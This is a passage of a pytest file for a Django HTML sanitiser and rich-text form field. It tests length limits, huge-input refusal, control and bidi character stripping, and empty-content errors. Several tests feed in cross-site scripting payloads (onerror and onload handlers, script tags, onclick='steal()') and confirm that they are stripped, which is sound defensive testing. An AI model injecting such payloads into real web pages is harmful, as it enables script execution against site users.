    assert "1235" in excinfo.value.messages[0]


def test_text_exactly_at_the_limit_is_accepted():
    assert sanitize_html("x" * 1234, max_length=1234) == "x" * 1234


def test_limit_counts_the_cleaned_html_not_the_input():
    # Stripped markup does not count ...
    assert sanitize_html("<span>" + "y" * 10 + "</span>", max_length=10) == "y" * 10
    # ... but escaping does: three "<" are stored as twelve characters.
    with pytest.raises(ValidationError) as excinfo:
        sanitize_html("<<<", max_length=10)
    assert excinfo.value.code == "too_long"


def test_limit_defaults_to_the_user_html_max_length_setting(settings):
    settings.USER_HTML_MAX_LENGTH = 50
    assert sanitize_html("z" * 50) == "z" * 50
    with pytest.raises(ValidationError) as excinfo:
        sanitize_html("z" * 51)
    assert excinfo.value.code == "too_long"
    assert "50" in excinfo.value.messages[0]


def test_explicit_max_length_overrides_the_setting(settings):
    settings.USER_HTML_MAX_LENGTH = 10
    assert sanitize_html("z" * 30, max_length=30) == "z" * 30


def test_megabytes_of_input_are_refused_before_parsing(settings, monkeypatch):
    settings.USER_HTML_MAX_LENGTH = 20_000

    def must_not_parse(*args, **kwargs):
        raise AssertionError("huge input reached the HTML parser")

    monkeypatch.setattr(core.sanitize._cleaner, "clean", must_not_parse)
    huge = "<p><strong><em>" * 400_000  # 6 MB of nested tags
    with pytest.raises(ValidationError) as excinfo:
        sanitize_html(huge)
    assert excinfo.value.code == "too_long"
    assert "20000" in excinfo.value.messages[0]


# --- RichTextField -------------------------------------------------------------------------


class _PostForm(forms.Form):
    body = RichTextField()


class _ShortPostForm(forms.Form):
    body = RichTextField(max_length=40)


class _OptionalPostForm(forms.Form):
    body = RichTextField(required=False)


def test_rich_text_field_cleaned_data_is_sanitised():
    form = _PostForm(
        data={
            "body": '<p onclick="steal()">Hi <img src=x onerror=alert(1)>'
            "<strong>there</strong> https://cbd.int</p>"
        }
    )
    assert form.is_valid(), form.errors
    assert form.cleaned_data["body"] == (
        '<p>Hi <strong>there</strong> <a href="https://cbd.int" rel="nofollow ugc noopener">'
        "https://cbd.int</a></p>"
    )


@pytest.mark.parametrize(
    "markup",
    [
        pytest.param("<p> </p>", id="blank-paragraph"),
        pytest.param("<p>&nbsp;</p><br><br>", id="nbsp-and-breaks"),
        pytest.param("<script></script>", id="empty-script"),
        pytest.param("<img src=x onerror=alert(1)>", id="image-only"),
        pytest.param("<svg onload=alert(1)></svg><!-- hi -->", id="svg-and-comment"),
        pytest.param("<p><strong> </strong><em>\n</em></p>", id="empty-emphasis"),
    ],
)
def test_required_rich_text_without_visible_words_is_empty_error(markup):
    form = _PostForm(data={"body": markup})
    assert not form.is_valid()
    assert form.has_error("body", code="empty")
    assert "no visible words" in form.errors["body"][0]


def test_required_rich_text_with_only_a_script_is_empty_error():
    form = _PostForm(data={"body": "<script>x</script>"})
    assert form.has_error("body", code="empty")


def test_rich_text_field_refuses_nul_with_a_form_error():
    # sanitize_html removes NUL, but the form never gets that far: Django's CharField
    # validator reports it to the user instead.
    form = _PostForm(data={"body": "bio\x00safety"})
    assert form.has_error("body", code="null_characters_not_allowed")


def test_required_rich_text_blank_input_is_required_error():
    form = _PostForm(data={"body": "   "})
    assert form.has_error("body", code="required")


def test_optional_rich_text_accepts_blank_input():
    form = _OptionalPostForm(data={"body": ""})
    assert form.is_valid(), form.errors
    assert form.cleaned_data["body"] == ""


def test_optional_rich_text_still_sanitises():
    form = _OptionalPostForm(data={"body": "<script>alert(1)</script><p>ok</p>"})
    assert form.is_valid(), form.errors
    assert form.cleaned_data["body"] == "<p>ok</p>"


def test_over_long_rich_text_is_a_form_error_not_an_exception():
    form = _ShortPostForm(data={"body": "w" * 41})
    assert not form.is_valid()
    assert form.has_error("body", code="too_long")
    assert "40" in form.errors["body"][0]


def test_rich_text_at_the_limit_is_valid():
    form = _ShortPostForm(data={"body": "w" * 40})
    assert form.is_valid(), form.errors


def test_rich_text_field_uses_the_setting_when_no_max_length(settings):
    settings.USER_HTML_MAX_LENGTH = 20
    form = _PostForm(data={"body": "<p>" + "w" * 20 + "</p>"})
    assert form.has_error("body", code="too_long")


def test_megabytes_in_a_rich_text_field_are_a_form_error():
    form = _ShortPostForm(data={"body": "<p>" * 2_000_000})
    assert not form.is_valid()
    assert form.has_error("body", code="too_long")


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("Amina\u202e Diallo", "Amina Diallo"),
        ("\u2066isolated\u2069 \u200fmarks\u200e \u061cgone", "isolated marks gone"),
        ("Li\nWei\t ", "Li Wei"),
        ("nul\x00 and\x7f del", "nul and del"),
        ("  ", ""),
        ("王\u202b伟", "王伟"),
    ],
)
def test_clean_text_leaves_no_control_or_bidi_character(raw, clean):
    from core.sanitize import clean_text

    assert clean_text(raw) == clean


@pytest.mark.parametrize(
    "markup",
    [
        *XSS_PAYLOADS,
        "",
        "<p> </p>",
        "<p>&nbsp;</p>",
        "<p>\u200b\u2060\ufeff</p>",
        '<a href="https://example.org/?a>b"></a>',
        "<a href='https://example.org/?q=\">'></a>",
        "<!-- a comment only -->",
        "<p>&lt;</p>",
        "<p>x</p>",
        "<ul><li></li></ul><blockquote> </blockquote>",
        "<p>转基因玉米 MON-89Ø34-3</p>",
    ],
)
def test_visible_text_check_agrees_with_the_text_of_the_clean_html(markup):
    from core.sanitize import has_visible_text, html_to_text

    clean = sanitize_html(markup)
    assert has_visible_text(clean) == bool(html_to_text(clean))
